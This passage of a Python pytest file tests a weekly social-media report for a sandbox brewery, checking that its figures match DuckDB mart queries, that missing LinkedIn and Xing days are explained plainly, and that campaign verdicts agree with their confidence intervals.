"""The weekly report an owner reads, on the sandbox company: real numbers from the marts, plain words,
missing data explained, an English setting, the PDF through headless Chromium, the e-mail over SMTP.

The warehouse is built once per module: Facebook, LinkedIn and Xing (files up to 12 Nov) with 160
days of history and the Herbstfest campaign; then a run for 15 Nov in which LinkedIn's token has
expired and a malformed Xing file is dropped. The report is for ISO week 46 (9-15 Nov 2026).
"""

from __future__ import annotations

import base64
import datetime as dt
import email
import email.policy
import json
import os
import re
import shutil
import socketserver
import subprocess
import sys
import threading
from collections.abc import Iterator
from dataclasses import dataclass
from html import unescape
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import duckdb
import pytest

from connectors.base import Credentials
from connectors.testing import FakeServer
from connectors.testing.sandbox import company
from connectors.testing.sandbox.facebook import SANDBOX_TOKEN as FB_TOKEN
from connectors.testing.sandbox.facebook import FacebookSandbox
from connectors.testing.sandbox.linkedin import SANDBOX_TOKEN as LI_TOKEN
from connectors.testing.sandbox.linkedin import LinkedInSandbox
from socialmetrics import pipeline
from socialmetrics.config import Config, ConfigError, ReportConfig, load_config
from socialmetrics.files import HOST
from socialmetrics.run.cli import main as cli
from socialmetrics.serve.report import (
    ReportError,
    ReportFiles,
    Week,
    build_weekly_report,
    company_slug,
    default_week,
    i18n,
    report_due,
    send_report,
)
from socialmetrics.serve.report.render import TEXT_EXCERPT, _excerpt
from socialmetrics.transform import runner as transform
from tests.conftest import AUTHOR_KEY, NOW, TODAY

WEEK = Week(2026, 46)
NBSP = "\u00a0"
CONFIG = """company: Brauerei Sonnenhang GmbH
timezone: Europe/Berlin
lookback_days: 160
accounts:
  - network: facebook
    id: "104857600000001"
    name: Brauerei Sonnenhang
  - network: linkedin
    id: "80486001"
    name: Brauerei Sonnenhang
  - network: xing
    id: brauerei-sonnenhang
    import_dir: xing-import
campaigns:
  - name: Herbstfest 2026
    start: 2026-09-14
    end: 2026-10-04
    networks: [facebook]
    tags: [herbstfest]
goals:
  - name: Follower Facebook
    figure: followers
    network: facebook
    period: 2026-Q4
    target: 5800
  - figure: engagement_rate
    period: month
    target: 4.5
"""


@dataclass
class Built:
    """The module's warehouse and its config."""

    root: Path
    config_path: Path
    warehouse: Path

    @property
    def cfg(self) -> Config:
        return load_config(self.config_path)

    def query(self, sql: str, params: Any = None) -> list[tuple[Any, ...]]:
        con = duckdb.connect(str(self.warehouse), read_only=True)
        try:
            return con.execute(sql, params).fetchall()
        finally:
            con.close()


def _run(
    built: Built,
    servers: dict[str, tuple[FakeServer, str]],
    day: dt.date,
    run_id: str,
    lookback: int,
    checks: tuple[tuple[Any, ...], ...] = (),
) -> None:
    """One nightly run the way the DAG does it: a failed extract does not stop the others (load is all_done).
    The quality gate is left out (it has its own tests and takes ~10 s to import GX): `checks` are the rows it
    would record in meta.quality_results, written where it writes them, between the load and the transform."""
    cfg = built.cfg.model_copy(update={"lookback_days": lookback})
    window = pipeline.run_window(dt.datetime.combine(day, dt.time(3, 0), dt.UTC), cfg, backfill=False, now=NOW)

    def credentials(conn_id: str) -> Credentials:
        server, token = servers[conn_id]
        return Credentials(conn_id, token, server.base_url)

    for acc in pipeline.plan(built.config_path):
        try:
            pipeline.extract(
                pipeline.account_from_dict(acc),
                window,
                run_id,
                credentials=credentials,
                landing_root=built.root / "landing",
                today=TODAY,
            )
        except Exception as exc:  # noqa: BLE001 (the DAG's extract task fails; the run goes on)
            assert acc["network"] == "linkedin" and "expired" in str(exc), exc
    loaded = pipeline.load(run_id, warehouse_path=built.warehouse, landing_root=built.root / "landing")
    con = duckdb.connect(str(built.warehouse))
    for check in checks:
        con.execute("INSERT INTO meta.quality_results VALUES (?, ?, ?, ?, ?, ?, ?, ?, now())", [run_id, *check])
    con.close()
    pipeline.run_transform(run_id, loaded, warehouse_path=built.warehouse, cfg=cfg)


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Built]:
    root = tmp_path_factory.mktemp("report")
    imports = root / "xing-import"
    imports.mkdir()
    (imports / "xing-2026-10.csv").write_text(company.xing_month_csv(2026, 10), encoding="utf-8")
    november = company.xing_month_csv(2026, 11).splitlines()
    kept = [line for line in november[1:] if int(line[:2]) <= 12]  # the admin copied up to 12 Nov
    (imports / "xing-2026-11.csv").write_text("\n".join([november[0], *kept]) + "\n", encoding="utf-8")
    config_path = root / "socialmetrics.yml"
    config_path.write_text(CONFIG, encoding="utf-8")
    result = Built(root, config_path, root / "warehouse.duckdb")
    fb = FakeServer(FacebookSandbox(today=TODAY)).start()
    li = FakeServer(LinkedInSandbox(today=TODAY)).start()
    servers = {"facebook_default": (fb, FB_TOKEN), "linkedin_default": (li, LI_TOKEN)}
    try:
        with pytest.MonkeyPatch.context() as mp:
            mp.setenv("SOCIALMETRICS_AUTHOR_KEY", AUTHOR_KEY)
            mp.setenv("SOCIALMETRICS_WAREHOUSE", str(result.warehouse))
            _run(result, servers, dt.date(2026, 11, 11), "scheduled__2026-11-11", 160)
            li.app.expired_tokens.add(LI_TOKEN)
            (imports / "xing-bad.csv").write_text(
                "Datum;Follower;Beitrag;Impressionen\n13.11.2026;1.400;;12,5k\n", encoding="utf-8"
            )
            # A failed warning-level check of the week's run, as the quality gate (socialmetrics/check/quality.py)
            # records it.
            failed = ("anomalies", "impressions_within_20x_median", "warning", False,
                      "facebook/104857600000001 2026-11-14", 1, '{"examples": ["2026-11-14"]}')  # fmt: skip
            _run(result, servers, dt.date(2026, 11, 15), "scheduled__2026-11-15", 3, (failed,))
    finally:
        fb.stop()
        li.stop()
    yield result


@pytest.fixture(scope="module")
def report_de(built: Built, tmp_path_factory: pytest.TempPathFactory) -> ReportFiles:
    out = tmp_path_factory.mktemp("out-de")
    return build_weekly_report(built.cfg, built.warehouse, (2026, 46), out_dir=out, today=TODAY, pdf=False)


@pytest.fixture(scope="module")
def html_de(report_de: ReportFiles) -> str:
    return report_de.html.read_text(encoding="utf-8")


SECTION_TABLES = ("missing", "missing-tech", "quality", "warnings")


class Page(HTMLParser):
    """The few things tests read from the report: text by element id/class/data attribute."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.stack: list[dict[str, str]] = []
        self.rows: dict[str, list[str]] = {}  # data-figure -> cell texts
        self.post_ids: dict[str, list[str]] = {"top": [], "bottom": []}
        self.figures: list[dict[str, Any]] = []
        self.network_rows: dict[str, list[str]] = {}
        self.network_columns: list[str] = []
        self.post_rows: dict[str, list[str]] = {}
        self.post_networks: dict[str, list[str]] = {}  # data-network of a posts table -> its post ids
        self.table_rows: dict[str, list[list[str]]] = {}  # class of a table of the missing data / appendix -> rows
        self.runs_line = ""  # the appendix's introduction, which names the week's runs
        self.not_reported: list[str] = []  # the lines on figures an account has no value for
        self._item: list[str] | None = None
        self._tbody = False
        self._small: list[str] | None = None
        self._list = ""
        self._cell: list[str] | None = None
        self._row: list[str] | None = None
        self._row_key: str | None = None
        self._table: str | None = None
        self._table_network: str | None = None
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        a = {k: v or "" for k, v in attrs}
        if tag == "table":
            self._table = a.get("class", "")
            self._table_network = a.get("data-network")
        elif tag == "tr":
            self._row, self._row_key = [], a.get("data-figure") or a.get("data-post-id")
            if "data-post-id" in a and self._table:
                self.post_ids["top" if "top" in self._table else "bottom"].append(a["data-post-id"])
                self.post_networks.setdefault(self._table_network or "", []).append(a["data-post-id"])
        elif tag in ("td", "th") and self._row is not None:
            self._cell = []
        elif tag == "tbody":
            self._tbody = True
        elif tag == "p" and a.get("class") == "small":
            self._small = []
        elif tag == "li" and self._list == "not-reported":
            self._item = []
        elif tag == "ul":
            self._list = a.get("class", "")
        elif tag == "br" and self._cell is not None:
            self._cell.append(" ")
        elif tag == "figure" and "chart" in a.get("class", ""):
            self.figures.append(
                {"key": a.get("data-chart"), "points": int(a.get("data-points") or 0), "svg": 0, "paths": 0}
            )
        elif tag == "svg" and self.figures:
            self.figures[-1]["svg"] += 1
        elif tag == "path" and self.figures:
            self.figures[-1]["paths"] += 1

    def handle_endtag(self, tag: str) -> None:
        if tag in ("td", "th") and self._cell is not None and self._row is not None:
            self._row.append(squeeze("".join(self._cell)))
            self._cell = None
        elif tag == "tr" and self._row is not None:
            if self._row_key and self._table == "headline":
                self.rows[self._row_key] = self._row
            if self._row_key and self._table and "posts" in self._table:
                self.post_rows[self._row_key] = self._row
            if self._table in SECTION_TABLES and self._tbody and self._row:
                self.table_rows.setdefault(self._table, []).append(self._row)
            if self._table == "networks" and self._row:
                if not self._row[0]:
                    self.network_columns = self._row[1:]
                else:
                    self.network_rows[self._row[0]] = self._row[1:]
            self._row = None
        elif tag == "table":
            self._table = None
        elif tag == "tbody":
            self._tbody = False
        elif tag == "p" and self._small is not None:
            text = squeeze("".join(self._small))
            self.runs_line = text if "Läufe mit Zahlen" in text else self.runs_line
            self._small = None
        elif tag == "li" and self._item is not None:
            self.not_reported.append(squeeze("".join(self._item)))
            self._item = None
        elif tag == "ul":
            self._list = ""

    def handle_data(self, data: str) -> None:
        if self._cell is not None:
            self._cell.append(data)
        if self._small is not None:
            self._small.append(data)
        if self._item is not None:
            self._item.append(data)


def squeeze(text: str) -> str:
    """Runs of ASCII white space as one space (a no-break space stays: it is part of "12 %")."""
    return re.sub(r"[ \t\r\n]+", " ", text).strip()


def text_of(html: str) -> str:
    """The visible text, white space squeezed (no tags, no style, no charts)."""
    body = re.sub(r"<style.*?</style>|<svg.*?</svg>", " ", html, flags=re.S)
    return squeeze(unescape(re.sub(r"<[^>]+>", " ", body)))


def week_sum(built: Built, sql: str, week: Week) -> Any:
    return built.query(sql, [week.start, week.end])[0][0]


def test_headline_reach_is_the_weeks_sum_of_reach_daily_and_a_partial_week_is_compared_with_nothing(
    built: Built, html_de: str
) -> None:
    """Given LinkedIn without numbers on 4 days of week 46, the reach (the week's sum of reach_daily) is shown,
    but neither change: "–" with the reason in words, never a percentage over a partial week."""
    reach = week_sum(built, "SELECT sum(reach) FROM marts.reach_daily WHERE day BETWEEN ? AND ?", WEEK)
    previous = week_sum(built, "SELECT sum(reach) FROM marts.reach_daily WHERE day BETWEEN ? AND ?", WEEK.shift(-1))
    row = Page(html_de).rows["reach"]
    assert row[1] == i18n.number(reach, "de")  # e.g. 13.654
    assert re.fullmatch(r"\d{1,3}(\.\d{3})*", row[1])
    # the reason is a footnote: its mark in both cells, its words once under the section's tables
    assert row[2] == f"– Vorwoche: {i18n.number(previous, 'de')} ¹"
    assert row[3] == "– ¹"
    notes = re.findall(r"<li>([¹²³⁴⁵⁶⁷⁸⁹][^<]*)</li>", html_de)
    assert notes[0] == "¹ nicht vergleichbar: diese Woche fehlen Tage (LinkedIn 3 von 7 Tagen)"
    assert len(notes) == len(set(notes)) and text_of(html_de).count("(LinkedIn 3 von 7 Tagen)") == 1


HEADLINE_FORMATS: dict[str, tuple[Any, Any]] = {  # figure: (value format, change format) as the report shows them
    "reach": (lambda v: i18n.number(v, "de"), lambda c: i18n.change_percent(c, "de")),
    "engagement_rate": (lambda v: i18n.percent(v, "de", 2), lambda c: i18n.points(c, "de", 2)),
    "follower_gain": (lambda v: i18n.signed(v, "de"), lambda c: i18n.signed(c, "de")),
    "comments": (lambda v: i18n.number(v, "de"), lambda c: i18n.change_percent(c, "de")),
    "tone": (lambda v: i18n.signed(v, "de", 2), lambda c: i18n.signed(c, "de", 2)),
}
NETWORK_ROWS = {  # label in the networks table: (marts.account_weekly column, format)
    "Reichweite": ("reach", lambda v: i18n.number(v, "de")),
    "Impressionen": ("impressions", lambda v: i18n.number(v, "de")),
    "Interaktionen": ("engagements", lambda v: i18n.number(v, "de")),
    "Engagement-Rate": ("engagement_rate", lambda v: i18n.percent(v, "de", 2)),
    "Follower (Wochenende)": ("followers_end", lambda v: i18n.number(v, "de")),
    "Follower-Zuwachs": ("follower_gain", lambda v: i18n.signed(v, "de")),
    "Kommentare": ("comments", lambda v: i18n.number(v, "de")),
    "Tage mit Daten": ("days_with_data", lambda v: f"{v or 0}/7"),
}


def report_figures_against_marts(built: Built, html: str, week: Week) -> int:
    """Assert that every figure of the report's overview and post tables equals a query on the marts; returns
    how many figures were compared (so a test can see the comparison was not empty)."""
    page = Page(html)
    compared = 0
    for figure, (fmt, change_fmt) in HEADLINE_FORMATS.items():
        value, previous, p_change, average, a_change = built.query(
            "SELECT value, previous_value, previous_change, average_value, average_change FROM marts.weekly_headline "
            "WHERE week_start = ? AND figure = ?",
            [week.start, figure],
        )[0]
        if value is None and figure == "tone":
            continue  # no confident comment this week: the tone row says so in words
        row = page.rows[figure]
        assert row[1].split(" ")[0] == fmt(value), figure
        assert row[2].startswith(f"{change_fmt(p_change) if p_change is not None else '–'} Vorwoche: {fmt(previous)}")
        assert row[3].startswith(change_fmt(a_change) if a_change is not None else "–"), figure
        if average is not None:
            assert f": {fmt(average)}" in row[3], figure
        compared += 4
    analysed = built.query(
        "SELECT comments_analysed FROM marts.account_weekly WHERE network = 'all' AND week_start = ?", [week.start]
    )[0][0]
    assert f"davon {analysed} analysiert" in page.rows["comments"][1]
    labels = {"Facebook": "facebook", "LinkedIn": "linkedin", "Xing": "xing", "X": "x"}
    for col, label in enumerate(page.network_columns):
        for row_label, (column, fmt) in NETWORK_ROWS.items():
            found = built.query(
                f"SELECT {column} FROM marts.account_weekly WHERE network = ? AND week_start = ?",
                [labels[label], week.start],
            )
            expected = fmt(found[0][0] if found else None)
            assert page.network_rows[row_label][col].split(" (")[0] == expected, (label, row_label)
            compared += 1
    posts = built.query(
        "SELECT count(*) FROM marts.post_performance WHERE CAST(timezone('Europe/Berlin', published_at) AS DATE) "
        "BETWEEN ? AND ?",
        [week.start, week.end],
    )[0][0]
    assert bool(page.post_rows) == bool(posts)
    for post_id, cells in page.post_rows.items():
        impressions, reach, engagements, rate, comments = built.query(
            "SELECT impressions, reach, engagements, engagement_rate, comments FROM marts.post_performance "
            "WHERE post_id = ?",
            [post_id],
        )[0]
        assert cells[4:] == [
            i18n.number(impressions, "de"),
            i18n.number(reach, "de"),
            i18n.number(engagements, "de"),
            i18n.percent(rate, "de", 1),
            i18n.number(comments, "de"),
        ], post_id
        compared += 5
    return compared + coverage_and_issues_against_marts(built, page, week)


def coverage_and_issues_against_marts(built: Built, page: Page, week: Week) -> int:
    """Assert that the missing-data section and the technical appendix show the week's rows of
    marts.account_coverage_weekly, marts.run_issues and marts.week_runs; returns how many values were compared."""
    compared = 0
    order = [(a.network, a.id) for a in built.cfg.accounts]
    missing = sorted(
        built.query(
            "SELECT network, account_id, missing_days FROM marts.account_coverage_weekly "
            "WHERE week_start = ? AND len(missing_days) > 0",
            [week.start],
        ),
        key=lambda r: order.index((r[0], r[1])),
    )
    shown = page.table_rows.get("missing", [])
    assert len(shown) == len(missing)
    for (network, _account_id, days), row in zip(missing, shown, strict=True):
        assert row[0].startswith(f"{i18n.network_name(network)} · "), row
        assert f"({len(days)} von 7 Tagen)" in row[0] and i18n.date(min(days), "de") in row[0], row
        compared += 2
    not_reported = built.query(
        "SELECT count(*) FROM marts.account_coverage_weekly WHERE week_start = ? AND len(not_reported) > 0",
        [week.start],
    )[0][0]
    assert len(page.not_reported) == not_reported
    for kind, table in (("quality", "quality"), ("warning", "warnings")):
        issues = built.query(
            "SELECT coalesce(suite, network || '/' || account_id), coalesce(expectation, code), detail, affected, runs "
            "FROM marts.run_issues WHERE week_start = ? AND kind = ? AND position <= 8 ORDER BY position",
            [week.start, kind],
        )
        rows = page.table_rows.get(table, [])
        assert len(rows) == len(issues), kind
        for (title, name, detail, affected, runs), row in zip(issues, rows, strict=True):
            assert row[0].startswith(title) and row[0].endswith(name), (row, title, name)
            assert row[1].endswith(squeeze(detail)) and (not affected or row[1].startswith(f"{affected} betroffen"))
            assert row[2] == str(runs)
            compared += 4
    runs = [r[0] for r in built.query(
        "SELECT run_id FROM marts.week_runs WHERE week_start = ? ORDER BY loaded_at, run_id", [week.start]
    )]  # fmt: skip
    assert page.runs_line.endswith(f"Läufe mit Zahlen dieser Woche: {', '.join(runs)}." if runs else "")
    return compared + len(runs)


def test_every_figure_in_the_report_equals_a_mart_query(built: Built, html_de: str, tmp_path: Path) -> None:
    """Week 46 (LinkedIn partial) and week 45 (whole weeks, comparisons made): every number of the overview,
    the networks table and the post tables is a value of marts.weekly_headline, marts.account_weekly,
    marts.comment_sentiment or marts.post_performance; the missing data, the failed checks, the warnings and
    the runs are the week's rows of marts.account_coverage_weekly, marts.run_issues and marts.week_runs."""
    assert report_figures_against_marts(built, html_de, WEEK) > 60
    # LinkedIn and Xing missing (2 values each), a failed check and two warnings (4 each: the rejected Xing file
    # and LinkedIn's follower snapshot the fixture's late run could not take), the week's 2 runs
    assert coverage_and_issues_against_marts(built, Page(html_de), WEEK) == 2 * 2 + 4 + 2 * 4 + 2
    other = build_weekly_report(built.cfg, built.warehouse, WEEK.shift(-1), out_dir=tmp_path, today=TODAY, pdf=False)
    html = other.html.read_text(encoding="utf-8")
    assert report_figures_against_marts(built, html, WEEK.shift(-1)) > 60
    assert Page(html).rows["reach"][2][0] in "+" + i18n.MINUS  # whole weeks on both sides: a real change


def test_engagement_rate_is_the_weeks_engagements_over_impressions(built: Built, html_de: str) -> None:
    rate = week_sum(
        built,
        "SELECT sum(engagements) / sum(impressions) FROM marts.engagement_daily "
        "WHERE day BETWEEN ? AND ? AND engagements IS NOT NULL AND impressions IS NOT NULL",
        WEEK,
    )
    assert Page(html_de).rows["engagement_rate"][1] == f"{100 * rate:.2f}".replace(".", ",") + f"{NBSP}%"


def test_follower_growth_is_the_sum_of_the_weeks_gains(built: Built, html_de: str) -> None:
    gain = week_sum(built, "SELECT sum(follower_gain) FROM marts.reach_daily WHERE day BETWEEN ? AND ?", WEEK)
    assert gain > 0 and Page(html_de).rows["follower_gain"][1].startswith(f"+{i18n.number(gain, 'de')}")


def test_a_network_without_reach_shows_a_dash_never_zero(html_de: str) -> None:
    """Given Xing (no reach in its export) with numbers on 9-12 Nov, its reach is "–" and the overview says why."""
    page = Page(html_de)
    xing = page.network_columns.index("Xing")
    assert page.network_rows["Reichweite"][xing] == "–"
    assert page.network_rows["Impressionen"][xing] not in ("–", "0")
    assert "Xing liefert keine Reichweite." in text_of(html_de)


def test_posts_are_ranked_by_engagements_within_their_network(built: Built, html_de: str) -> None:
    """Each network's posts of the week are ranked among themselves: its top 3 by engagements, then its weakest
    of the rest; a post never appears in another network's table."""
    posts = built.query(
        "SELECT network, post_id FROM marts.post_performance "
        "WHERE CAST(timezone('Europe/Berlin', published_at) AS DATE) BETWEEN ? AND ? "
        "ORDER BY network, engagements DESC, engagement_rate DESC, post_id",
        [WEEK.start, WEEK.end],
    )
    page = Page(html_de)
    networks = sorted({n for n, _ in posts})
    assert len(networks) >= 2 and sorted(page.post_networks) == networks
    for network in networks:
        ranked = [p for n, p in posts if n == network]
        shown = page.post_networks[network]
        top = [p for p in page.post_ids["top"] if p in ranked]
        bottom = [p for p in page.post_ids["bottom"] if p in ranked]
        assert top == ranked[:3], network
        assert bottom == list(reversed(ranked[3:]))[:3], network
        assert shown == top + bottom


def test_each_promoted_metric_gets_one_verdict_that_agrees_with_its_interval(built: Built, html_de: str) -> None:
    """The verdict is in plain words, its interval in a footnote under the campaigns (marts.campaign_impact's
    figures). The words are checked against the footnote's interval, not against the mart's verdict column: a
    sentence claiming an effect ("sicher mehr", "sicher weniger") needs a 95 % range without 0, one saying it
    cannot be told a range with 0; a range too wide to say anything is named so and never printed. One sentence
    per metric."""
    from socialmetrics.serve.report.render import SUPERSCRIPTS, too_wide

    rows = built.query(
        "SELECT metric, lift_pct, ci_low_pct, ci_high_pct FROM marts.campaign_impact "
        "WHERE campaign = 'Herbstfest 2026' AND network = 'facebook' AND lift_pct IS NOT NULL ORDER BY metric"
    )

    def clean(fragment: str) -> str:
        return squeeze(unescape(re.sub(r"<[^>]+>", "", fragment)))

    verdicts = [clean(v) for v in re.findall(r'<li class="verdict">(.*?)</li>', html_de, re.S)]
    notes_block = re.search(r'<ul class="footnotes campaign-notes">(.*?)</ul>', html_de, re.S)
    assert notes_block is not None
    notes = {n[0]: n[2:] for n in (clean(n) for n in re.findall(r"<li>(.*?)</li>", notes_block.group(1), re.S))}
    words = {"reach": "Reichweite", "impressions": "Impressionen", "engagements": "Interaktionen"}
    assert len(rows) == 3 and len(verdicts) == 3, verdicts
    claims = 0
    for metric, lift, low, high in rows:
        (sentence,) = [v for v in verdicts if words[metric] in v]
        assert sentence.startswith("Herbstfest 2026: ") and "95-%-Bereich" not in sentence
        mark = sentence[-2]
        assert mark in SUPERSCRIPTS and sentence.endswith(mark + "."), sentence
        note = notes[mark]
        claimed = "sicher mehr" in sentence or "sicher weniger" in sentence
        if too_wide(low, high):
            assert "zu wenig Daten für eine Aussage" in sentence and note.startswith("Zu wenig Daten für eine Aussage")
            assert not claimed
            continue
        assert f"95-%-Bereich {i18n.signed(low, 'de')} bis {i18n.signed(high, 'de')}{NBSP}%" in note, note
        assert f"Herbstfest 2026, {words[metric]} auf Facebook: gemessen {i18n.lift(lift, 'de')}" in note
        assert claimed == (low > 0 or high < 0), (metric, low, high, sentence)
        assert ("nicht sicher von Zufall zu unterscheiden" in sentence) == (not claimed)
        assert i18n.number(abs(lift), "de") in sentence
        claims += claimed
    assert claims >= 1  # the sandbox's Herbstfest really lifted Facebook (+35 %): at least one clear effect
    assert "Zum Vergleich (nicht beworben): LinkedIn, Reichweite:" in text_of(html_de)


def test_a_clear_effect_verdict_whose_interval_holds_0_is_not_called_an_effect() -> None:
    """Given a mart row that says 'clear effect' but has a range from −5 % to +60 %, the sentence does not claim
    an effect the footnote's numbers do not support; a range too wide to say anything is not printed."""
    from socialmetrics.serve.report.data import Campaign, CampaignRow
    from socialmetrics.serve.report.render import campaign_note, campaign_sentence

    def row(verdict: str, low: float, high: float, lift: float = 30.0) -> CampaignRow:
        return CampaignRow("facebook", "reach", True, 130.0, 100.0, lift, low, high, 0.04, verdict, 20.0, True)

    campaign = Campaign("Herbstfest", dt.date(2026, 9, 14), dt.date(2026, 10, 4), ("facebook",), ())
    notes: list[str] = []
    assert campaign_sentence(campaign, row("clear effect", 3.0, 60.0), "de", notes) == (
        f"Herbstfest: +30{NBSP}% Reichweite auf Facebook, sicher mehr als ohne Kampagne¹."
    )
    assert notes == [f"Herbstfest, Reichweite auf Facebook: gemessen +30{NBSP}%, 95-%-Bereich +3 bis +60{NBSP}%."]
    assert campaign_sentence(campaign, row("clear effect", 3.0, 60.0), "en") == (
        "Herbstfest: +30% reach on Facebook, clearly more than without the campaign."
    )
    wrong = campaign_sentence(campaign, row("clear effect", -5.0, 60.0), "de")
    assert wrong == f"Herbstfest: +30{NBSP}% Reichweite auf Facebook, nicht sicher von Zufall zu unterscheiden."
    # X's impressions in the demo: −29 % to +16.218 %; and a range from −30 % to +120 %
    for low, high in ((-29.0, 16218.0), (-30.0, 120.0)):
        assert campaign_sentence(campaign, row("no evidence", low, high), "de") == (
            "Herbstfest: Reichweite auf Facebook, zu wenig Daten für eine Aussage."
        )
        note = campaign_note(campaign, row("no evidence", low, high), "de")
        assert note is not None and note.startswith("Zu wenig Daten für eine Aussage") and "16.218" not in note
    short = CampaignRow("facebook", "reach", True, 130.0, None, None, None, None, None, "no evidence", None, True)
    assert campaign_sentence(campaign, short, "de") == (
        "Herbstfest: Reichweite auf Facebook, noch zu wenig Daten (nötig sind mindestens 8 Wochen Zahlen vor dem "
        "Start)."
    )


def sections(html: str) -> tuple[str, str]:
    """The text of the owner's sections (1-4) and of the technical appendix (5)."""
    text = text_of(html)
    found = re.search(r"5 · (Technischer Anhang|Technical appendix)", text)  # not "Vorwoche: 65 · ..."
    assert found is not None
    start = found.start()
    return text[:start], text[start:]


def test_missing_data_names_the_account_the_days_and_the_reason(html_de: str) -> None:
    owner, appendix = sections(html_de)
    # LinkedIn: the 15 Nov run failed on the expired token; its numbers stop on 11 Nov
    assert "LinkedIn · Brauerei Sonnenhang fehlt: 12.11.2026–15.11.2026 (4 von 7 Tagen)" in owner
    assert "brachte Zahlen der anderen Konten, aber keine für dieses; meist ist der Zugang abgelaufen" in owner
    assert "Letzte Zahlen dieses Kontos: 11.11.2026." in owner
    assert "Lauf scheduled__2026-11-15" in appendix and "abgelaufenen Tokens" in appendix
    assert "linkedin_default" in appendix
    # Xing: no API; the admin's file ends on 12 Nov
    assert "Xing · brauerei-sonnenhang fehlt: 13.11.2026–15.11.2026 (3 von 7 Tagen)" in owner
    assert "für diese Tage liegt keine Import-Datei vor" in owner and "(xing-import)" in owner


def test_the_owners_sections_have_no_run_ids_and_no_airflow_words(html_de: str) -> None:
    """Run ids, connections, task names and Airflow's words belong to the technical appendix only."""
    owner, appendix = sections(html_de)
    for word in ("scheduled__", "manual__", "backfill__", "Airflow", "Backfill", "Lauf ", "extract", "_default",
                 "meta.", "marts."):  # fmt: skip
        assert word not in owner, word
    assert "scheduled__2026-11-15" in appendix and "Airflow" in appendix


def rebuild(con: duckdb.DuckDBPyConnection, built: Built) -> None:
    """Rebuild core and marts of WEEK, and the marts of the run records, as the run's transform does."""
    cfg = built.cfg
    transform.run(con, WEEK.start, WEEK.end + dt.timedelta(days=1), run_id="test", tz=cfg.timezone,
                  accounts=[f"{a.network}/{a.id}" for a in cfg.accounts])  # fmt: skip


def _without_facebook_days(built: Built, tmp_path: Path, *days: str, warnings: tuple[str, ...] = ()) -> Path:
    """A copy of the warehouse in which Facebook answered no numbers for `days` in run 15 Nov, which read them
    (and recorded `warnings` for Facebook), with core and marts rebuilt."""
    copy = tmp_path / "warehouse.duckdb"
    shutil.copy(built.warehouse, copy)
    con = duckdb.connect(str(copy))
    con.execute(
        "DELETE FROM raw.daily_metrics WHERE network = 'facebook' AND list_contains(?, CAST(day AS VARCHAR))",
        [list(days)],
    )
    for message in warnings:
        con.execute(
            "INSERT INTO meta.connector_warnings VALUES ('scheduled__2026-11-15', 'facebook', ?, 'page_insights', "
            "'empty-answer', ?, now())",
            [company.FACEBOOK_PAGE_ID, message],
        )
    rebuild(con, built)
    con.close()
    return copy


def test_days_a_run_read_without_numbers_are_named_without_inventing_a_cause(built: Built, tmp_path: Path) -> None:
    """Given Facebook days the 15 Nov run read but the network gave no numbers for, the report names the run
    and the days and says no reason was given: no guessed delay, no promise that a later run fixes it."""
    copy = _without_facebook_days(built, tmp_path, "2026-11-13", "2026-11-14")
    files = build_weekly_report(built.cfg, copy, WEEK, out_dir=tmp_path, today=TODAY, pdf=False)
    owner, appendix = sections(files.html.read_text(encoding="utf-8"))
    assert "Facebook · Brauerei Sonnenhang fehlt: 13.11.2026–14.11.2026 (2 von 7 Tagen)" in owner
    assert re.search(
        r"Der Abruf vom \d\d\.\d\d\.\d{4} hat diese Tage gelesen, aber das Netzwerk lieferte für sie keine Zahlen "
        r"und nannte keinen Grund\.",
        owner,
    )
    assert re.search(r"Lauf scheduled__2026-11-15 \(geladen am [\d.]+\) hat diese Tage abgerufen", appendix)
    assert "Verzögerung" not in owner + appendix and "erneut" not in owner + appendix


def test_the_reason_the_fetch_recorded_is_quoted(built: Built, tmp_path: Path) -> None:
    noted = "Facebook answered no values for page_media_view on 2026-11-14."
    copy = _without_facebook_days(built, tmp_path, "2026-11-14", warnings=(noted,))
    files = build_weekly_report(built.cfg, copy, WEEK, out_dir=tmp_path, today=TODAY, pdf=False, language="en")
    owner, appendix = sections(files.html.read_text(encoding="utf-8"))
    assert "the network gave no numbers for them; the technical appendix quotes what it noted." in owner
    assert "The fetch noted: Facebook answered no values for page_media_view on 2026-11-14." in appendix


def test_quality_failures_and_connector_warnings_of_the_weeks_runs_are_listed(html_de: str) -> None:
    owner, appendix = sections(html_de)
    assert "1 Prüfung(en) mit Befund und 2 Hinweis(e) der Abrufe: Details im technischen Anhang." in owner
    assert "anomalies · Warnung impressions_within_20x_median" in appendix
    assert "xing/brauerei-sonnenhang rejected_file" in appendix
    assert "xing-bad.csv: Zeile 2, Spalte Impressionen: keine Zahl" in appendix and "12,5k" not in appendix
    # the fixture's run covering 11 Nov starts on 20 Nov: too late for LinkedIn's follower total of 11 Nov
    assert "linkedin/80486001 snapshot-skipped" in appendix and "no snapshot for 2026-11-11" in appendix


def test_the_comment_tone_section_says_there_is_no_analysis_without_the_table(built: Built, tmp_path: Path) -> None:
    copy = tmp_path / "warehouse.duckdb"
    shutil.copy(built.warehouse, copy)
    con = duckdb.connect(str(copy))
    con.execute("DROP TABLE IF EXISTS marts.comment_sentiment")
    con.close()
    files = build_weekly_report(built.cfg, copy, WEEK, out_dir=tmp_path, today=TODAY, pdf=False)
    text = text_of(files.html.read_text(encoding="utf-8"))
    assert "Die Kommentaranalyse hat noch keine Daten" in text
    assert 'data-chart="tone"' not in files.html.read_text(encoding="utf-8")


def with_comments(
    built: Built, tmp_path: Path, posts: list[tuple[str, dt.date, int, int, int, int, str]], no_daily: str = ""
) -> Path:
    """A copy of the warehouse whose comments are only `posts`' (post id, a day of the week, confident positive,
    neutral and negative comments, uncertain ones, topics), with the marts rebuilt from them; `no_daily` names a
    network whose daily numbers of WEEK are taken out first."""
    copy = tmp_path / "warehouse.duckdb"
    shutil.copy(built.warehouse, copy)
    con = duckdb.connect(str(copy))
    con.execute("DELETE FROM core.comment")
    if no_daily:
        con.execute(
            "DELETE FROM core.account_daily WHERE network = ? AND day BETWEEN ? AND ?", [no_daily, WEEK.start, WEEK.end]
        )
    n = 0
    for post_id, day, pos, neu, neg, uncertain, topics in posts:
        at = dt.datetime.combine(day, dt.time(12), dt.UTC)
        labels = ["positive"] * pos + ["neutral"] * neu + ["negative"] * neg + ["neutral"] * uncertain
        for i, label in enumerate(labels):
            n += 1
            confident = i < pos + neu + neg
            con.execute(
